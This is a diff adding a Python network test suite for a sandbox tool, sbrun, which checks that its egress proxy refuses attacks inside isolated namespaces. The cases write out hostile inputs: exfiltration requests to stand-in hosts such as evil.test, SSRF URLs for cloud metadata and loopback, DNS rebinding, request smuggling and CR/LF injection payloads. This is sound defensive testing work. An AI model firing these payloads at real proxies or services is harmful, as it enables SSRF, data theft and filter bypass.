@@ -1,0 +1,669 @@
+"""Network tests of sbrun: real clients in real sandboxes against a real
+network that records everything (ATTACKS.md section 2, NET-xx).
+
+The test builds its own world, so nothing depends on the machine's network:
+  - it re-runs itself in new mount and network namespaces (root only);
+  - "upstream" is a second network namespace behind a veth pair, at
+    198.51.100.2, running servers.py: an authoritative DNS server that logs
+    every query, HTTP vhosts (with `git http-backend`) and raw TCP ports,
+    all logging what they receive;
+  - /etc/resolv.conf is bind-mounted (in the test's mount namespace only) to
+    point at that DNS server;
+  - "host loopback services" listen on 127.0.0.1 in the test's namespace,
+    where sbrun's proxy runs, and log every connection (SSRF tripwires).
+Each case runs sbrun with a policy and a command, as root and (for the
+cases marked so) as the unprivileged user sbrun-test, then checks the
+command's output and the logs of everything on the far side.
+
+usage: network_test.py SBRUN [CASE-NAME-SUBSTRING...]
+Exit status 0 when every case passed, 1 otherwise, 77 when skipped.
+"""
+
+import json
+import os
+import pty
+import select
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+UPSTREAM = "198.51.100.2"
+USER = "sbrun-test"
+
+
+def skip(reason):
+    print("skipped:", reason)
+    sys.exit(77)
+
+
+# ---------------------------------------------------------------------------
+# The world
+
+
+class World:
+    def __init__(self):
+        self.dir = tempfile.mkdtemp(prefix="sbrun-net-")
+        os.chmod(self.dir, 0o755)
+        self.logs = os.path.join(self.dir, "logs")
+        os.mkdir(self.logs)
+        os.chmod(self.logs, 0o777)
+        self.procs = []
+
+    def sh(self, *cmd):
+        subprocess.run(cmd, check=True, stdout=subprocess.DEVNULL)
+
+    def start(self):
+        self.sh("ip", "link", "set", "lo", "up")
+        holder = subprocess.Popen(["unshare", "--net", "sleep", "infinity"])
+        self.procs.append(holder)
+        time.sleep(0.1)
+        ns = ["nsenter", "-t", str(holder.pid), "-n"]
+        self.sh("ip", "link", "add", "sbt0", "type", "veth", "peer", "name", "sbt1")
+        self.sh("ip", "link", "set", "sbt1", "netns", str(holder.pid))
+        self.sh("ip", "addr", "add", "198.51.100.1/24", "dev", "sbt0")
+        self.sh("ip", "link", "set", "sbt0", "up")
+        self.sh(*ns, "ip", "link", "set", "lo", "up")
+        self.sh(*ns, "ip", "addr", "add", UPSTREAM + "/24", "dev", "sbt1")
+        self.sh(*ns, "ip", "link", "set", "sbt1", "up")
+        # A bare git repository for `git clone` over HTTP.
+        self.git_root = os.path.join(self.dir, "git")
+        os.mkdir(self.git_root)
+        src = os.path.join(self.dir, "src")
+        subprocess.run(["git", "init", "-q", "-b", "main", src], check=True)
+        with open(os.path.join(src, "README"), "w") as f:
+            f.write("sbrun network test repository\n")
+        subprocess.run(["git", "-C", src, "add", "README"], check=True)
+        subprocess.run(["git", "-C", src, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "init"],
+                       check=True)
+        subprocess.run(["git", "clone", "-q", "--bare", src, os.path.join(self.git_root, "repo.git")], check=True)
+        servers = subprocess.Popen(ns + [sys.executable, os.path.join(HERE, "servers.py"), self.logs, self.git_root],
+                                   stdout=subprocess.PIPE)
+        self.procs.append(servers)
+        if servers.stdout.readline().strip() != b"ready":
+            raise RuntimeError("servers.py did not start")
+        resolv = os.path.join(self.dir, "resolv.conf")
+        with open(resolv, "w") as f:
+            f.write(f"nameserver {UPSTREAM}\noptions timeout:1 attempts:1\n")
+        self.sh("mount", "--bind", resolv, "/etc/resolv.conf")
+        # Host loopback services: an SSRF that reaches one shows up here.
+        for port in (22, 631, 2375, 6379, 9222, 8080):
+            threading.Thread(target=self.tripwire, args=(port,), daemon=True).start()
+
+    def tripwire(self, port):
+        s = socket.socket()
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        s.bind(("127.0.0.1", port))
+        s.listen(64)
+        while True:
+            c, _ = s.accept()
+            with open(os.path.join(self.logs, "loopback.jsonl"), "a") as f:
+                f.write(json.dumps({"port": port}) + "\n")
+            c.close()
+
+    def stop(self):
+        for p in self.procs:
+            p.kill()
+            p.wait()
+        shutil.rmtree(self.dir, ignore_errors=True)
+
+    def marks(self):
+        out = {}
+        for name in ("dns", "http", "tcp", "loopback"):
+            path = os.path.join(self.logs, name + ".jsonl")
+            out[name] = os.path.getsize(path) if os.path.exists(path) else 0
+        return out
+
+    def since(self, name, marks):
+        path = os.path.join(self.logs, name + ".jsonl")
+        if not os.path.exists(path):
+            return []
+        with open(path) as f:
+            f.seek(marks[name])
+            return [json.loads(line) for line in f if line.strip()]
+
+
+# ---------------------------------------------------------------------------
+# Running one case
+
+
+class Result:
+    def __init__(self, world, marks, code, output, log_path):
+        self.code, self.output = code, output
+        time.sleep(0.2)  # let the far side finish writing its logs
+        self.dns = world.since("dns", marks)
+        self.http = world.since("http", marks)
+        self.tcp = world.since("tcp", marks)
+        self.loopback = world.since("loopback", marks)
+        self.log = []
+        if os.path.exists(log_path):
+            with open(log_path) as f:
+                self.log = [json.loads(line) for line in f if line.strip()]
+        self.net = [e for e in self.log if e.get("event") == "net"]
+
+
+POLICY_BASE = 'use std.base;\nallow read "./**";\nallow write "./**";\n'
+
+
+def run_sbrun(world, sbrun, case, mode, tty=None):
+    work = tempfile.mkdtemp(prefix="case-", dir=world.dir)
+    shutil.copy(os.path.join(HERE, "client.py"), work)
+    with open(os.path.join(work, "p.sbpolicy"), "w") as f:
+        f.write(POLICY_BASE + case.get("policy", ""))
+    log_path = os.path.join(work, "log.jsonl")
+    argv = [sbrun, "--log", log_path] + case.get("args", []) + ["p.sbpolicy", "--", "sh", "-c", case["cmd"]]
+    if mode == "user":
+        subprocess.run(["chown", "-R", USER + ":" + USER, work], check=True)
+        argv = ["setpriv", "--reuid=" + USER, "--regid=" + USER, "--init-groups", "--reset-env"] + argv
+    marks = world.marks()
+    env = {"PATH": "/usr/bin:/bin", "HOME": work, "LANG": "C.UTF-8"}
+    timeout = case.get("timeout", 60)
+    if tty is None:
+        p = subprocess.run(argv, cwd=work, env=env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
+                           stderr=subprocess.STDOUT, timeout=timeout, start_new_session=True)
+        return Result(world, marks, p.returncode, p.stdout.decode("utf-8", "replace"), log_path)
+    return tty(world, argv, work, env, marks, log_path, timeout)
+
+
+def with_answers(answers, delay=0.0):
+    """Runs sbrun on a pseudo-terminal and answers each network prompt in
+    turn, `delay` seconds after it appears."""
+
+    def run(world, argv, work, env, marks, log_path, timeout):
+        pid, master = pty.fork()
+        if pid == 0:
+            os.chdir(work)
+            os.execvpe(argv[0], argv, env)
+        transcript, pending = b"", list(answers)
+        deadline = time.time() + timeout
+        while time.time() < deadline:
+            r, _, _ = select.select([master], [], [], 0.2)
+            if r:
+                try:
+                    chunk = os.read(master, 4096)
+                except OSError:
+                    break
+                if not chunk:
+                    break
+                transcript += chunk
+                while pending and transcript.count(b"deny (default)  > ") > len(answers) - len(pending):
+                    time.sleep(delay)
+                    os.write(master, pending.pop(0).encode() + b"\n")
+            done, status = os.waitpid(pid, os.WNOHANG)
+            if done:
+                try:
+                    transcript += os.read(master, 65536)
+                except OSError:
+                    pass
+                break
+        else:
+            os.kill(pid, 9)
+            _, status = os.waitpid(pid, 0)
+        os.close(master)
+        code = os.waitstatus_to_exitcode(status)
+        return Result(world, marks, code, transcript.decode("utf-8", "replace"), log_path)
+
+    return run
+
+
+# ---------------------------------------------------------------------------
+# Checks
+
+
+def expect(cond, message):
+    if not cond:
+        raise AssertionError(message)
+
+
+def no_dns(r, *fragments):
+    for q in r.dns:
+        for frag in fragments:
+            expect(frag not in q["name"], f"DNS query for {q['name']} (must never be resolved)")
+
+
+def no_upstream(r, host=None):
+    hits = [h for h in r.http if host is None or (h.get("host") or "").startswith(host)]
+    expect(not hits, f"upstream received {hits}")
+
+
+def no_loopback(r):
+    expect(not r.loopback, f"a host loopback service was reached: {r.loopback}")
+
+
+def logged(r, **fields):
+    for e in r.net:
+        if all(e.get(k) == v for k, v in fields.items()):
+            return e
+    raise AssertionError(f"no log event with {fields}; events: {r.net}")
+
+
+# ---------------------------------------------------------------------------
+# The cases
+
+C = "python3 client.py"
+NET = 'allow net "registry.pkgs.test";\nallow net "upstream.test:9443";\nask net "*.wild.test";\n'
+CASES = []
+
+
+def case(name, cmd, policy=NET, args=(), users=("root", "user"), tty=None, **kw):
+    def register(check):
+        CASES.append(dict(name=name, cmd=cmd, policy=policy, args=list(args), users=users, tty=tty, check=check, **kw))
+        return check
+    return register
+
+
+@case("curl http allowed", "curl -sS -m5 http://registry.pkgs.test/a")
+def _(r):
+    expect(r.code == 0 and "upstream registry.pkgs.test GET /a" in r.output, r.output)
+    logged(r, host="registry.pkgs.test", effect="allow", protocol="http", rule="p.sbpolicy:4:11")
+
+
+@case("curl CONNECT allowed, tunnel carries bytes", "curl -sS -m5 -p http://registry.pkgs.test/b")
+def _(r):
+    expect("upstream registry.pkgs.test GET /b" in r.output, r.output)
+    e = logged(r, host="registry.pkgs.test", protocol="http-connect", outcome="tunnel")
+    expect(e["bytes_up"] > 0 and e["bytes_down"] > 0, e)
+
+
+@case("socks5h allowed", "curl -sS -m5 -x socks5h://127.0.0.1:1080 http://registry.pkgs.test/c")
+def _(r):
+    expect("upstream registry.pkgs.test GET /c" in r.output, r.output)
+    logged(r, protocol="socks5", outcome="tunnel")
+
+
+@case("git clone over HTTP through the proxy", "git clone -q http://git.pkgs.test/git/repo.git r && cat r/README",
+      policy='allow net "git.pkgs.test";\n')
+def _(r):
+    expect(r.code == 0 and "sbrun network test repository" in r.output, r.output)
+
+
+@case("python urllib through HTTP_PROXY",
+      "python3 -c 'import urllib.request as u;print(u.urlopen(\"http://registry.pkgs.test/py\",timeout=5).read())'")
+def _(r):
+    expect("upstream registry.pkgs.test GET /py" in r.output, r.output)
+
+
+@case("NET-02 no net rules: every request refused",
+      "curl -sS -m5 -o /dev/null -w '%{http_code}\\n' http://registry.pkgs.test/; "
+      f"{C} http 'CONNECT registry.pkgs.test:443 HTTP/1.1\\r\\n\\r\\n'", policy="")
+def _(r):
+    expect(r.output.count("403") >= 2, r.output)
+    no_upstream(r)
+    no_dns(r, "registry")
+
+
+@case("NET-12 plain HTTP to an unlisted host: 403 naming no rule",
+      "curl -sS -m5 -D- http://evil.test/?d=secret")
+def _(r):
+    expect("403" in r.output and "no rule allows this host" in r.output, r.output)
+    no_upstream(r)
+    no_dns(r, "evil")
+
+
+@case("deny rule named in the 403", "curl -sS -m5 -D- -p http://registry.pkgs.test:8080/",
+      policy='allow net "*.pkgs.test:*";\ndeny net "registry.pkgs.test:8080";\n')
+def _(r):
+    expect("403" in r.output and "p.sbpolicy:5:10" in r.output, r.output)
+    no_dns(r, "registry")
+
+
+@case("NET-01 direct connections fail without the proxy",
+      f"curl -sS -m3 --noproxy '*' http://{UPSTREAM}/; {C} direct {UPSTREAM} 80; {C} direct 1.1.1.1 443")
+def _(r):
+    expect(r.output.count("refused:") == 2 and "connected" not in r.output, r.output)
+    no_upstream(r)
+
+
+@case("NET-04 a denied name is never resolved (HTTP, CONNECT, SOCKS, ask without terminal)",
+      "curl -sS -m5 http://leak1.exfil.test/; curl -sS -m5 -p http://leak2.exfil.test/; "
+      "curl -sS -m5 -x socks5h://127.0.0.1:1080 http://leak3.exfil.test/; curl -sS -m5 http://leak4.wild.test/",
+      args=["--ask", "deny"])
+def _(r):
+    no_dns(r, "exfil", "leak4")
+    expect(not r.dns, r.dns)
+
+
+@case("NET-05 IP literal of an allowed name is refused",
+      f"{C} http 'CONNECT {UPSTREAM}:443 HTTP/1.1\\r\\nHost: registry.pkgs.test\\r\\n\\r\\n'")
+def _(r):
+    expect("403" in r.output, r.output)
+    expect(not r.tcp, r.tcp)
+
+
+@case("NET-07 NUL, tab, DEL and ANSI bytes in hosts",
+      f"{C} http 'CONNECT evil.test%00.pkgs.test:443 HTTP/1.1\\r\\n\\r\\n'; "
+      f"{C} http 'CONNECT evil.test\\t.pkgs.test:443 HTTP/1.1\\r\\n\\r\\n'; "
+      f"{C} http 'CONNECT evil.test\\x7f.pkgs.test:443 HTTP/1.1\\r\\n\\r\\n'; "
+      f"{C} http 'CONNECT \\x1b[2K.pkgs.test:443 HTTP/1.1\\r\\n\\r\\n'; "
+      f"{C} socks5 3 'evil.test\\x00.registry.pkgs.test' 80",
+      policy='allow net "*.pkgs.test:*";\n')
+def _(r):
+    expect(r.output.count("400") == 4, r.output)
+    expect("reply 0x02" in r.output, r.output)
+    no_dns(r, "evil")
+    no_upstream(r)
+
+
+@case("NET-08 suffix and prefix confusion",
+      "for h in registry.pkgs.test.evil.test evilpkgs.test pkgs.test.evil.test pkgs.test; do "
+      "curl -s -m5 -o /dev/null -w \"$h %{http_code}\\n\" http://$h/; done",
+      policy='allow net "*.pkgs.test";\n')
+def _(r):
+    for h in ("registry.pkgs.test.evil.test", "evilpkgs.test", "pkgs.test.evil.test", "pkgs.test"):
+        expect(f"{h} 403" in r.output, r.output)
+    no_upstream(r)
+
+
+@case("NET-10 Host header disagreeing with the target",
+      f"curl -sS -m5 -D- http://registry.pkgs.test/ -H 'Host: evil.test'; "
+      f"{C} http 'GET http://registry.pkgs.test/ HTTP/1.1\\r\\nHost: a\\r\\nHost: evil.test\\r\\n\\r\\n'")
+def _(r):
+    expect(r.output.count("400") >= 2, r.output)
+    no_upstream(r)
+
+
+@case("NET-10 forwarded request carries only the checked Host",
+      f"{C} http 'GET http://REGISTRY.pkgs.test./x HTTP/1.1\\r\\nHost: registry.pkgs.test\\r\\n"
+      "Proxy-Authorization: secret\\r\\nConnection: x-drop\\r\\nX-Drop: 1\\r\\n\\r\\n'")
+def _(r):
+    expect("200" in r.output, r.output)
+    expect(len(r.http) == 1 and r.http[0]["hosts"] == ["registry.pkgs.test"], r.http)
+    for h in ("proxy-authorization", "x-drop"):
+        expect(h not in r.http[0]["headers"], r.http[0])
+
+
+@case("NET-11 origin-form and HTTP/1.0 without Host",
+      f"{C} http 'GET / HTTP/1.0\\r\\n\\r\\n'; {C} http 'GET /x HTTP/1.1\\r\\nHost: registry.pkgs.test\\r\\n\\r\\n'; "
+      f"{C} http ' http://evil.test/ HTTP/1.1\\r\\n\\r\\n'")
+def _(r):
+    expect(r.output.count("400") == 3, r.output)
+    no_upstream(r)
+
+
+@case("NET-13 SNI must match the CONNECT host; no SNI; allowed SNI passes",
+      f"{C} tls registry.pkgs.test:443 evil.test; {C} tls registry.pkgs.test:443 -; "
+      f"{C} tls registry.pkgs.test:443 registry.pkgs.test")
+def _(r):
+    refusals = [e for e in r.net if e.get("outcome") == "refused"]
+    expect(len(refusals) == 2, r.net)
+    expect(any("evil.test" in e.get("reason", "") for e in refusals), refusals)
+    # The upstream is dialled before the ClientHello arrives; only the
+    # matching one may deliver a byte.
+    delivered = [t for t in r.tcp if t["bytes"] > 0]
+    expect(len(delivered) == 1 and delivered[0]["first"].startswith("16"), r.tcp)
+
+
+@case("NET-16 IPv4 spellings of loopback are refused",
+      "for h in 2130706433 0x7f000001 017700000001 0177.0.0.1 127.1 0 0.0.0.0 127.0.0.1.; do "
+      f"{C} http \"CONNECT $h:22 HTTP/1.1\\r\\n\\r\\n\" | head -1; done", policy='allow net "*:*";\n')
+def _(r):
+    expect(r.output.count("403") + r.output.count("400") == 8, r.output)
+    no_loopback(r)
+
+
+@case("NET-17 IPv6 forms of loopback and metadata are refused",
+      "for h in '[::1]:22' '[::ffff:127.0.0.1]:22' '[::ffff:7f00:1]:22' '[0:0:0:0:0:ffff:a9fe:a9fe]:80' "
+      "'[64:ff9b::a9fe:a9fe]:80' '[fe80::1%25lo]:22' '[::]:8080' '[fd00:ec2::254]:80'; do "
+      f"{C} http \"CONNECT $h HTTP/1.1\\r\\n\\r\\n\" | head -1; done", policy='allow net "*:*";\n')
+def _(r):
+    expect(r.output.count("403") + r.output.count("400") == 8, r.output)
+    no_loopback(r)
+
+
+@case("NET-18 names resolving to loopback are refused after resolution",
+      "curl -s -m5 -o /dev/null -w '%{http_connect}\\n' -p http://loop.test:6379/; "
+      "curl -s -m5 -o /dev/null -w '%{http_connect}\\n' -p http://v6loop.test:6379/; "
+      "curl -s -m5 -o /dev/null -w '%{http_connect}\\n' -p http://mapped.test:6379/; "
+      "curl -s -m5 -o /dev/null -w '%{http_connect}\\n' --noproxy '' -p http://localhost:6379/",
+      policy='allow net "*:*";\n')
+def _(r):
+    expect(r.output.split() == ["403"] * 4, r.output)
+    no_loopback(r)
+
+
+@case("NET-18 an ask for a loopback name is refused without a prompt",
+      "curl -s -m5 -o /dev/null -w '%{http_connect}\\n' --noproxy '' -p http://localhost:6379/",
+      policy='ask net "*:*";\n', users=("root",), tty=with_answers([]))
+def _(r):
+    expect("403" in r.output and "allow once" not in r.output, r.output)
+    no_loopback(r)
+
+
+@case("NET-19 metadata, link-local, private and CGNAT addresses",
+      "for u in http://169.254.169.254/latest/meta-data/ http://100.100.100.200/ http://168.63.129.16/ "
+      "http://10.0.0.1:22/ http://100.64.0.1/ http://meta.test/ http://private.test/; do "
+      "curl -s -m5 -o /dev/null -w '%{http_code}\\n' $u; done", policy='allow net "*:*";\nask net "0.0.0.0/0:*";\n',
+      args=["--ask", "allow"])
+def _(r):
+    expect(r.output.split() == ["403"] * 7, r.output)
+
+
+@case("NET-19 an explicit IP rule opens a protected address",
+      "curl -s -m5 -o /dev/null -w '%{http_code}\\n' --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:8080/",
+      policy='allow net "127.0.0.1:8080";\n')
+def _(r):
+    expect(r.loopback and r.loopback[0]["port"] == 8080, r.loopback)
+
+
+@case("NET-20 rebinding: each resolution checked, a mixed answer refused",
+      "for i in 1 2 3 4; do curl -s -m5 -o /dev/null -w '%{http_connect}\\n' -p http://rebind.test:6379/; done; "
+      "curl -s -m5 -o /dev/null -w 'mixed %{http_connect}\\n' -p http://mixed.test:6379/",
+      policy='allow net "rebind.test:*";\nallow net "mixed.test:*";\n')
+def _(r):
+    no_loopback(r)
+    expect("mixed 403" in r.output, r.output)
+
+
+@case("NET-22 port parsing",
+      "for p in 0 65536 443abc +443 0443 '' '443:80' -1; do "
+      f"{C} http \"CONNECT registry.pkgs.test:$p HTTP/1.1\\r\\n\\r\\n\" | head -1; done; "
+      f"{C} http 'CONNECT registry.pkgs.test HTTP/1.1\\r\\n\\r\\n' | head -1", policy='allow net "*.pkgs.test:*";\n')
+def _(r):
+    expect(r.output.count("400") == 9, r.output)
+    no_dns(r, "registry")
+
+
+@case("NET-23 UDP and ICMP fail; SOCKS UDP ASSOCIATE and BIND refused",
+      "python3 -c 'import socket;socket.socket(2,2).sendto(b\"x\",(\"8.8.8.8\",53))' 2>&1 | tail -1; "
+      f"{C} socks5 3 registry.pkgs.test 80 3; {C} socks5 3 registry.pkgs.test 80 2")
+def _(r):
+    expect("Network is unreachable" in r.output, r.output)
+    expect(r.output.count("reply 0x07") == 2, r.output)
+
+
+@case("NET-24 SOCKS5 address types, versions and names",
+      f"{C} socks5 1 127.0.0.1 22; {C} socks5 4 ::1 22; {C} socks5 3 '' 80; {C} socks5 3 'REGISTRY.pkgs.test.' 80; "
+      f"{C} socks5 3 registry.pkgs.test 80 1 4", policy='allow net "*.pkgs.test";\n')
+def _(r):
+    lines = r.output
+    expect(lines.count("reply 0x02") == 3, lines)
+    expect("reply 0x00" in lines and "upstream REGISTRY.pkgs.test." in lines, lines)
+    expect("closed after greeting" in lines, lines)
+    no_loopback(r)
+
+
+@case("NET-25 CR/LF injection and header syntax",
+      f"{C} http 'CONNECT evil.test\\r\\nX: .pkgs.test:443 HTTP/1.1\\r\\n\\r\\n'; "
+      f"{C} http 'GET http://registry.pkgs.test/ HTTP/1.1\\nHost: registry.pkgs.test\\n\\n'; "
+      f"{C} http 'GET http://registry.pkgs.test/ HTTP/1.1\\r\\nX: a\\r\\n b\\r\\n\\r\\n'; "
+      f"{C} http 'GET http://registry.pkgs.test/ HTTP/1.1\\r\\nHost : evil.test\\r\\n\\r\\n'",
+      policy='allow net "*.pkgs.test";\n')
+def _(r):
+    expect(r.output.count("400") == 4, r.output)
+    no_upstream(r)
+
+
+SMUGGLE = "GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"
+
+
+@case("NET-26 request smuggling: CL+TE and odd TE refused; chunked re-framed",
+      f"{C} http 'POST http://registry.pkgs.test/ HTTP/1.1\\r\\nContent-Length: 4\\r\\n"
+      f"Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{SMUGGLE}'; "
+      f"{C} http 'POST http://registry.pkgs.test/ HTTP/1.1\\r\\nTransfer-Encoding: chunked, gzip\\r\\n\\r\\n{SMUGGLE}'; "
+      f"{C} http 'POST http://registry.pkgs.test/ HTTP/1.1\\r\\nContent-Length: 3\\r\\nContent-Length: 3\\r\\n\\r\\nabc'; "
+      f"{C} http 'POST http://registry.pkgs.test/ok HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
+      f"3\\r\\nabc\\r\\n0\\r\\n\\r\\n{SMUGGLE}'")
+def _(r):
+    expect(r.output.count("400") == 3, r.output)
+    expect(len(r.http) == 1 and r.http[0]["path"] == "/ok" and r.http[0]["body_text"] == "abc", r.http)
+    no_upstream(r, "evil")
+
+
+@case("NET-28 relayed CONNECT through an in-sandbox relay gets the same decision",
+      "python3 -c '\n"
+      "import socket,threading\n"
+      "l=socket.socket();l.bind((\"127.0.0.1\",9000));l.listen(1)\n"
+      "def relay():\n"
+      " c,_=l.accept();u=socket.create_connection((\"127.0.0.1\",3128));u.sendall(c.recv(4096));c.sendall(u.recv(4096))\n"
+      "threading.Thread(target=relay).start()\n"
+      "s=socket.create_connection((\"127.0.0.1\",9000));s.sendall(b\"CONNECT evil.test:443 HTTP/1.1\\r\\n\\r\\n\")\n"
+      "print(s.recv(100).split(b\"\\r\\n\")[0])'")
+def _(r):
+    expect("403" in r.output, r.output)
+    no_dns(r, "evil")
+
+
+@case("NET-31 Unicode dots and zero-width characters",
+      "for h in 'registry．pkgs．test' 'registry。pkgs。test' 'regis\u200btry.pkgs.test' 'registry.pkgs.tεst'; do "
+      f"{C} http \"CONNECT $h:443 HTTP/1.1\\r\\n\\r\\n\" | head -1; done")
+def _(r):
+    expect(r.output.count("400") == 4, r.output)
+    no_upstream(r)
+
+
+@case("NET-32 asks: allow once, then allow for this run, then remembered",
+      "curl -s -m20 -o /dev/null -w '%{http_code}\\n' http://a.wild.test/; "
+      "curl -s -m20 -o /dev/null -w '%{http_code}\\n' http://a.wild.test/; "
+      "curl -s -m20 -o /dev/null -w '%{http_code}\\n' http://a.wild.test/",
+      users=("root",), tty=with_answers(["o", "a"]))
+def _(r):
+    codes = [l for l in r.output.split() if l.isdigit() and len(l) == 3]
+    expect(codes == ["200", "200", "200"], r.output)
+    expect(r.output.count("allow once") == 2, r.output)
+    expect("registrable domain: wild.test" in r.output, r.output)
+    asks = [e.get("ask") for e in r.net]
+    expect(asks == ["allowed once at the prompt", "allowed for this run at the prompt", "allowed earlier in this run"],
+           asks)
+
+
+@case("NET-32 asks: a deny is remembered and the name is never resolved",
+      "curl -s -m20 -o /dev/null -w '%{http_code}\\n' http://b.wild.test/; "
+      "curl -s -m20 -o /dev/null -w '%{http_code}\\n' http://b.wild.test/",
+      users=("root",), tty=with_answers(["d"]))
+def _(r):
+    codes = [l for l in r.output.split() if l.isdigit() and len(l) == 3]
+    expect(codes == ["403", "403"], r.output)
+    expect(r.output.count("allow once") == 1, r.output)
+    no_dns(r, "b.wild")
+
+
+@case("NET-32 concurrent asks for one host are one prompt",
+      "for i in 1 2 3 4 5; do curl -s -m20 -o /dev/null -w '%{http_code}\\n' http://c.wild.test/ & done; wait",
+      users=("root",), tty=with_answers(["o"], delay=2.0))
+def _(r):
+    expect(r.output.count("allow once") == 1, r.output)
+    expect(r.output.count("200") == 5, r.output)
+
+
+@case("asks without a terminal are denied", "curl -s -m5 -o /dev/null -w '%{http_code}\\n' http://d.wild.test/")
+def _(r):
+    expect("403" in r.output, r.output)
+    e = logged(r, host="d.wild.test")
+    expect("no terminal" in e.get("reason", "") or "denied" in e.get("reason", ""), e)
+
+
+@case("--ask allow grants network asks", "curl -s -m5 -o /dev/null -w '%{http_code}\\n' http://e.wild.test/",
+      args=["--ask", "allow"])
+def _(r):
+    expect("200" in r.output, r.output)
+
+
+@case("--resolve pins a name without DNS",
+      "curl -s -m5 http://pinned.test:8080/p", policy='allow net "pinned.test:8080";\n',
+      args=["--resolve", f"pinned.test:{UPSTREAM}"])
+def _(r):
+    expect("upstream pinned.test:8080 GET /p" in r.output, r.output)
+    no_dns(r, "pinned")
+
+
+@case("NET-34 connection flood: limit answered with 503, host unaffected",
+      f"{C} flood 40", args=["--net-max-connections", "10"], timeout=90)
+def _(r):
+    expect("200=10" in r.output and "503=30" in r.output, r.output)
+
+
+@case("NET-34 slowloris: a slow head is cut off", f"{C} slow", args=["--net-head-timeout", "500"])
+def _(r):
+    expect("cut off after" in r.output, r.output)
+
+
+@case("NET-34 idle tunnels are closed",
+      "python3 -c '\n"
+      "import socket,time\n"
+      "s=socket.create_connection((\"127.0.0.1\",3128));s.sendall(b\"CONNECT upstream.test:9443 HTTP/1.1\\r\\n\\r\\n\")\n"
+      "print(s.recv(100).split(b\"\\r\\n\")[0]);s.settimeout(10);t=time.time();print(\"eof\",s.recv(10),round(time.time()-t))'",
+      args=["--net-idle-timeout", "1000"])
+def _(r):
+    expect("200" in r.output and "eof b''" in r.output, r.output)
+    logged(r, reason="idle timeout")
+
+
+@case("NET-35 garbage, HTTP/2 preface and a CONNECT with a body do not hurt the proxy",
+      "head -c 20000 /dev/urandom > junk; python3 -c '\n"
+      "import socket\n"
+      "for data in [open(\"junk\",\"rb\").read(), b\"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n\", "
+      "b\"CONNECT registry.pkgs.test:443 HTTP/1.1\\r\\nContent-Length: 5\\r\\n\\r\\nhello\", "
+      "b\"GET http://registry.pkgs.test/ HTTP/1.1\\r\\nConnection: connection, proxy-connection\\r\\n\\r\\n\"]:\n"
+      " s=socket.create_connection((\"127.0.0.1\",3128));s.sendall(data);print(s.recv(100).split(b\"\\r\\n\")[0])\n"
+      " s.close()'; curl -s -m5 http://registry.pkgs.test/after")
+def _(r):
+    expect("upstream registry.pkgs.test GET /after" in r.output, r.output)
+
+
+def run_case(world, sbrun, c, mode):
+    r = run_sbrun(world, sbrun, c, mode, c["tty"])
+    c["check"](r)
+    # Whatever the case: nothing in the log says a refused connection was dialled.
+    for e in r.net:
+        if e.get("outcome") == "refused" and e.get("reason", "").startswith(("no rule", "denied by")):
+            expect("address" not in e, e)
+
+
+def main():
+    if os.geteuid() != 0:
+        skip("the network tests build network namespaces and need root")
+    sbrun, filters = os.path.abspath(sys.argv[1]), sys.argv[2:]
+    if os.environ.get("SBRUN_NET_WORLD") != "1":
+        for tool in ("unshare", "nsenter", "ip", "curl", "git"):
+            if shutil.which(tool) is None:
+                skip(f"`{tool}` is not installed")
+        env = dict(os.environ, SBRUN_NET_WORLD="1")
+        os.execvpe("unshare", ["unshare", "--mount", "--net", "--fork", "--propagation", "private",
+                               sys.executable, os.path.abspath(__file__)] + sys.argv[1:], env)
+    subprocess.run(["useradd", "-m", USER], stderr=subprocess.DEVNULL)
+    world = World()
+    failures = 0
+    try:
+        world.start()
+        for c in CASES:
+            if filters and not any(f in c["name"] for f in filters):
+                continue
+            for mode in c["users"]:
+                label = f"{c['name']} [{mode}]"
+                try:
+                    run_case(world, sbrun, c, mode)
+                    print("PASS", label, flush=True)
+                except Exception as e:  # noqa: BLE001 - report every failure, keep going
+                    failures += 1
+                    print("FAIL", label, "\n   ", str(e).replace("\n", "\n    "), flush=True)
+    finally:
+        world.stop()
+    print(f"{failures} failed")
+    sys.exit(1 if failures else 0)
+
+
+main()
